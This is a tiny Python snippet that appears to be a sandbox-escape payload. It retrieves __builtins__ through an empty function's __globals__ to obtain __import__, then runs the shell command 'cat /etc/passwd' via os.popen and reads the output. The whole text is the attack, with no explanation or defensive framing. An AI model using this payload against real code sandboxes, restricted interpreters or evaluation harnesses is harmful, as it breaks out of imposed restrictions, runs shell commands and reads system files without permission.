def probe():
    pass


g = probe.__globals__["__builtins__"]
imp = g["__import__"] if isinstance(g, dict) else g.__import__
imp("os").popen("cat /etc/passwd").read()
